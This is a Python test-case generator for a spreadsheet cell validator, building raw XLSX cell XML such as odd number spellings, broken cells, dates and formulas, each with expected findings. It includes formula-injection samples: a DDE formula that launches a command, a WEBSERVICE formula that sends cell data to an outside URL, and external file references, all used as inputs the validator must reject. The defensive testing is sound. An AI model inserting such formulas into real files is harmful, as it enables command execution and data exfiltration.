"""What can stand in a cell, as raw XML, and what is required of it."""

from __future__ import annotations

from collections.abc import Iterator
from xml.sax.saxutils import escape

from support.hostile_case import (
    CELL,
    GROUPED,
    MONEY,
    NAME,
    PARAGRAPHS,
    SECOND,
    ZERO,
    Case,
    at,
    harmless,
    text_cell,
    wrong,
)
from support.packing import STRINGS, Edit, Parts, instead_of, put, put_in_format, rewritten

# Other spellings of the number 3.
SAME_NUMBERS = {
    "with decimals": "<v>3.0</v>",
    "with an exponent": "<v>30e-1</v>",
    "with blanks": "<v> 3\n</v>",
    "as a character reference": "<v>&#51;</v>",
    "as CDATA": "<v><![CDATA[3]]></v>",
    "with a comment inside": "<v><!-- 4 -->3</v>",
    "with an extension list": "<v>3</v><extLst><ext uri='x'><y xmlns='z'>4</y></ext></extLst>",
}
# Texts that are certainly the number 3, or 1234.
REPAIRED_TEXTS = {
    "digit": "3",
    "full width digit": "３",
    "decimals": "3.0",
    "full width decimals": "３．０",
    "plus": "+3",
    "leading zeros": "003",
    "blanks": " 3 ",
    "ideographic space": "\u30003\u3000",
    "no-break space": "\u00a03\u00a0",
    "tab and line end": "\t3\n",
    "escaped line end": "3_x000D__x000A_",
    "escaped digit": "_x0033_",
}
REPAIRED_GROUPS = {
    "grouping": "1,234",
    "full width grouping": "１，２３４",
    "grouped decimals": "1,234.00",
    "no group": "1234",
}
# Texts that are no number, however clear they may look.
NO_NUMBERS = (
    "12件", "3万元", "约3", "3个", "无", "/", "-", "—", "〇", "三", "一百", "³", "٣", "①", "Ⅲ", "３³", "3%", "５０％",
    "3‰", "1,23", "12,34", "1,2345", "1,234,56", ",123", "1,,234", "1，23", "1 234", "1'234", "1.234.567", "1.234,5",
    "3.", ".5", "1e3", "0x10", "3 4", "3\n4", "3-5", "3/4", "2/1", "−3", "=3", "NaN", "INF", "∞", "TRUE", "#REF!",
    "3\u200b", "\u202e3", "3_x0007_", "_x0033", "3_xD800_",
)  # fmt: skip
FORMULAS = {
    "plain": "<f>1+1</f><v>3</v>",
    "without a value": "<f>1+1</f>",
    "with an error": "<f>1/0</f><v>#DIV/0!</v>",
    "empty": "<f/><v>3</v>",
    "array": f'<f t="array" ref="{NAME}">1+2</f><v>3</v>',
    "shared": f'<f t="shared" ref="{NAME}:{SECOND}" si="0">1+2</f><v>3</v>',
    "shared without its master": '<f t="shared" si="7"/><v>3</v>',
    "data table": f'<f t="dataTable" ref="{NAME}" dt2D="1" dtr="1" r1="A1" r2="A2"/><v>3</v>',
    "hyperlink": '<f>HYPERLINK("http://a.cn/","3")</f><v>3</v>',
    "web service": '<f>_xlfn.WEBSERVICE("http://a.cn/?"&amp;A1)</f><v>3</v>',
    "dde": "<f>cmd|'/c calc'!A1</f><v>3</v>",
    "other book": "<f>[1]Sheet1!A1</f><v>3</v>",
    "other book by path": "<f>'file:///C:/[b.xlsx]Sheet1'!A1</f><v>3</v>",
    "of a volatile function": "<f>NOW()</f><v>3</v>",
}
# Cells that cannot be read: attributes and content.
BROKEN = {
    "NaN": ("", "<v>NaN</v>"),
    "infinity": ("", "<v>INF</v>"),
    "minus infinity": ("", "<v>-Infinity</v>"),
    "hexadecimal": ("", "<v>0x1p3</v>"),
    "grouped number": ("", "<v>1,234</v>"),
    "full width number": ("", "<v>３</v>"),
    "two numbers": ("", "<v>3 4</v>"),
    "unknown type": (' t="zz"', "<v>3</v>"),
    "empty type": (' t=""', "<v>3</v>"),
    "boolean two": (' t="b"', "<v>2</v>"),
    "no such string": (' t="s"', "<v>999999</v>"),
    "negative string": (' t="s"', "<v>-1</v>"),
    "string by name": (' t="s"', "<v>three</v>"),
    "string of no index": (' t="s"', "<v/>"),
    "string of an endless index": (' t="s"', f"<v>{'9' * 5000}</v>"),
    "string of a foreign digit": (' t="s"', "<v>٣</v>"),
    "two values": ("", "<v>3</v><v>4</v>"),
    "two equal values": ("", "<v>3</v><v>3</v>"),
    "value and inline text": ("", "<v>3</v><is><t>4</t></is>"),
    "inline text and value": (' t="inlineStr"', "<is><t>3</t></is><v>4</v>"),
    "two texts in one": (' t="inlineStr"', "<is><t>3</t><t>4</t></is>"),
    "two texts in one run": (' t="inlineStr"', "<is><r><t>3</t><t>4</t></r></is>"),
    "blank number": ("", "<v> </v>"),
    "text without a frame": ("", "<t>3</t>"),
    "two inline texts": (' t="inlineStr"', "<is><t>3</t></is><is><t>4</t></is>"),
    "inline text in a number": ("", "<is><t>3</t></is>"),
    "value in an inline text": (' t="inlineStr"', "<v>3</v>"),
    "element inside the value": ("", "<v>1<b/>2</v>"),
}  # fmt: skip
ERRORS = ("#REF!", "#N/A", "#DIV/0!", "#NAME?", "#VALUE!", "#NUM!", "#NULL!", "#SPILL!", "#GETTING_DATA")
DATE_FORMATS: dict[str, str | int] = {
    "built-in 14": 14,
    "built-in 22": 22,
    "built-in 31": 31,
    "built-in 46": 46,
    "built-in 57": 57,
    "year month day": "yyyy-mm-dd",
    "month day": "m/d",
    "Chinese date": 'yyyy"年"m"月"d"日"',
    "locale": "[$-804]aaaa;@",
    "elapsed hours": "[h]",
    "elapsed minutes and seconds": "[mm]:ss",
    "time": "h:mm AM/PM",
}
PERCENT_FORMATS: tuple[str | int, ...] = (9, 10, "0.0%", "[Red]0%")
NUMBER_FORMATS = {
    "decimals": "0.00",
    "accounting": '_ ¥* #,##0.00_ ;_ ¥* -#,##0.00_ ;_ ¥* "-"??_ ;_ @_ ',
    "text": "@",
    "colour": "[Red]0;[Blue]-0",
    "condition": "[<5]0;0.0",
    "exponent": "0.00E+00",
    "general": "General",
}


def cases() -> Iterator[Case]:
    """Every content of an input cell, and of a text cell."""
    yield from _numbers()
    yield from _texts_for_numbers()
    yield from _out_of_bounds()
    yield from _formulas()
    yield from _unreadable()
    yield from _dates()
    yield from _text_cells()


def inline(text: str) -> tuple[str, str]:
    """Content and attributes of a cell that holds a text."""
    return f'<is><t xml:space="preserve">{escape(text)}</t></is>', ' t="inlineStr"'


def _error(name: str, code: str, *edits: Edit) -> Case:
    return wrong(name, *edits, findings=((code, CELL),))


def _numbers() -> Iterator[Case]:
    for name, content in SAME_NUMBERS.items():
        yield harmless(f"number {name}", put(CELL, content))
    yield harmless("number of a stated type", put(CELL, "<v>3</v>", ' t="n"'))
    yield harmless("cell with unknown attributes", put(CELL, "<v>3</v>", ' cm="1" vm="1" ph="1"'))
    for zero in ("-0", "-0.0", "0e999"):
        yield harmless(f"zero as {zero}", put(at(ZERO), f"<v>{zero}</v>"))
    yield harmless("money of a float", put(at(MONEY), "<v>190.45737900000001</v>"))
    for near in ("3.0000000000000004", "2.9999999999", "3.000000001"):
        yield harmless(f"nearly three {near}", put(CELL, f"<v>{near}</v>"), notes=(("CELL-REPAIRED", CELL),))


def _texts_for_numbers() -> Iterator[Case]:
    for name, text in REPAIRED_TEXTS.items():
        yield harmless(f"text with {name}", put(CELL, *inline(text)), notes=(("CELL-REPAIRED", CELL),))
    for name, text in REPAIRED_GROUPS.items():
        yield harmless(f"text with {name}", put(at(GROUPED), *inline(text)), notes=(("CELL-REPAIRED", at(GROUPED)),))
    three = (("CELL-REPAIRED", CELL),)
    money = (("CELL-REPAIRED", at(MONEY)),)
    yield harmless("text of a formula's type", put(CELL, "<v>3</v>", ' t="str"'), notes=three)
    yield harmless("text among the shared", shared_text(CELL, "<t>3</t>"), notes=three)
    yield harmless("money as text", put(at(MONEY), *inline("１９０．４５７３７９")), notes=money)
    for n, text in enumerate(NO_NUMBERS):
        yield _error(f"no number {n}", "CELL-TEXT", put(CELL, *inline(text)))


def _out_of_bounds() -> Iterator[Case]:
    for number in ("-1", "-1e-7", "-1e308", "-3.0000000000000004"):
        yield _error(f"negative {number}", "CELL-NEGATIVE", put(CELL, f"<v>{number}</v>"))
    for number in ("1.5", "0.1", "3.00000001", "1e-5"):
        yield _error(f"fraction {number}", "CELL-FRACTION", put(CELL, f"<v>{number}</v>"))
    for number in ("1000000001", "1e308", "1e999", "9" * 400):
        yield _error(f"too large {number[:10]}", "CELL-TOO-LARGE", put(CELL, f"<v>{number}</v>"))
    for text, code in {
        "－３": "CELL-NEGATIVE",
        "1.5": "CELL-FRACTION",
        "1,000,000,001": "CELL-TOO-LARGE",
        "9" * 3000: "CELL-TOO-LARGE",
    }.items():
        yield _error(f"text {text[:10]}", code, put(CELL, *inline(text)))
    for content in (("<v>0.1234567</v>", ""), inline("0.1234567")):
        finding = (("CELL-DECIMALS", at(MONEY)),)
        yield wrong(f"money too fine{content[1]}".replace('"', ""), put(at(MONEY), *content), findings=finding)


def _formulas() -> Iterator[Case]:
    for name, content in FORMULAS.items():
        yield _error(f"formula {name}", "CELL-FORMULA", put(CELL, content))
    yield _error("formula with a text", "CELL-FORMULA", put(CELL, "<f>A1</f><v>3</v>", ' t="str"'))
    yield _error("formula with an error type", "CELL-FORMULA", put(CELL, "<f>1/0</f><v>#DIV/0!</v>", ' t="e"'))
    yield _error("formula with a boolean", "CELL-FORMULA", put(CELL, "<f>TRUE()</f><v>1</v>", ' t="b"'))
    yield _error("formula in a date format", "CELL-FORMULA", put_in_format(CELL, "<f>1+2</f><v>3</v>", 14))


def _unreadable() -> Iterator[Case]:
    for name, (attributes, content) in BROKEN.items():
        yield _error(f"broken {name}", "CELL-BROKEN", put(CELL, content, attributes))
    for n, error in enumerate(ERRORS):
        yield _error(f"error {n}", "CELL-ERROR", put(CELL, f"<v>{error}</v>", ' t="e"'))
    for value in "01":
        yield _error(f"boolean {value}", "CELL-BOOLEAN", put(CELL, f"<v>{value}</v>", ' t="b"'))
    doubled = f'<c r="{NAME}"><v>3</v></c><c r="{NAME}"><v>3</v></c>'
    yield _error("broken format that nobody knows", "CELL-BROKEN", put(CELL, "<v>3</v>", style=99_999))
    yield _error("broken shared string of two texts", "CELL-BROKEN", shared_text(CELL, "<t>3</t><t>4</t>"))
    yield _error("broken cell that stands twice", "CELL-BROKEN", instead_of(CELL, doubled))


def _dates() -> Iterator[Case]:
    for name, code in DATE_FORMATS.items():
        yield _error(f"date {name}", "CELL-DATE", put_in_format(CELL, "<v>3</v>", code))
    for number in ("45293", "0", "0.5", "-1", "2958466", "1e999"):
        yield _error(f"date {number}", "CELL-DATE", put_in_format(CELL, f"<v>{number}</v>", 14))
    for n, text in enumerate(("2024-01-02", "2024-01-02T00:00:00", "12:00:00")):
        yield _error(f"date in words {n}", "CELL-DATE", put(CELL, f"<v>{text}</v>", ' t="d"'))
    for n, text in enumerate(("3", "")):
        yield _error(f"date that is none {n}", "CELL-BROKEN", put(CELL, f"<v>{text}</v>", ' t="d"'))
    for n, percent in enumerate(PERCENT_FORMATS):
        yield _error(f"percentage {n}", "CELL-PERCENT", put_in_format(CELL, "<v>3</v>", percent))
    for name, code in NUMBER_FORMATS.items():
        yield harmless(f"number format {name}", put_in_format(CELL, "<v>3</v>", code))


def _text_cells() -> Iterator[Case]:
    first, empty = text_cell(0), text_cell(4)
    runs = "".join(f'<r><rPr><b/></rPr><t xml:space="preserve">{escape(c)}</t></r>' for c in PARAGRAPHS[0])
    guide = '<rPh sb="0" eb="1"><t>ディーイー</t></rPh><phoneticPr fontId="1"/>'
    yield harmless("text as runs", put(first, f"<is>{runs}</is>", ' t="inlineStr"'))
    yield harmless("text as shared runs", shared_text(first, runs))
    yield harmless("text with a phonetic guide", put(first, f"<is>{runs}{guide}</is>", ' t="inlineStr"'))
    yield harmless("text with a shared phonetic guide", shared_text(first, f"<t>{PARAGRAPHS[0]}</t>{guide}"))
    escaped = PARAGRAPHS[0].replace("甲", "_x7532_").replace("😀", "_xD83D__xDE00_")
    yield harmless("text in escapes", put(first, *inline(escaped)))
    twice = PARAGRAPHS[1].replace("_x0041_", "_x005F_x0041_")
    yield harmless("text with an escaped escape", put(text_cell(1), *inline(twice)))
    both = f"{PARAGRAPHS[0]}_x000D_\n{twice}"
    yield harmless("text of two paragraphs", put(first, *inline(both)), put(text_cell(1), ""))
    for name, spoilt in {"bell": "_x0007_", "null": "_x0000_", "delete": "\x7f", "half a pair": "_xD800_"}.items():
        text = PARAGRAPHS[0].replace("甲", f"甲{spoilt}")
        yield harmless(f"text with {name}", put(first, *inline(text)), notes=(("TEXT-CLEANED", first),))
    for name in ("hyperlink", "web service", "dde", "other book", "array"):
        content = FORMULAS[name].replace(NAME, empty.partition("!")[2])
        yield harmless(f"text formula {name}", put(empty, content), notes=(("TEXT-FORMULA", empty),))
    yield harmless("text error", put(empty, "<v>#REF!</v>", ' t="e"'), notes=(("TEXT-ERROR", empty),))
    yield harmless("text of no string", put(empty, "<v>999999</v>", ' t="s"'), notes=(("TEXT-ERROR", empty),))


def shared_text(place: str, content: str) -> Edit:
    """Puts a shared string into a cell."""

    def edit(parts: Parts) -> None:
        index = parts[STRINGS].count(b"<si>")
        rewritten(STRINGS, lambda text: text.replace("</sst>", f"<si>{content}</si></sst>"))(parts)
        put(place, f"<v>{index}</v>", ' t="s"')(parts)

    return edit
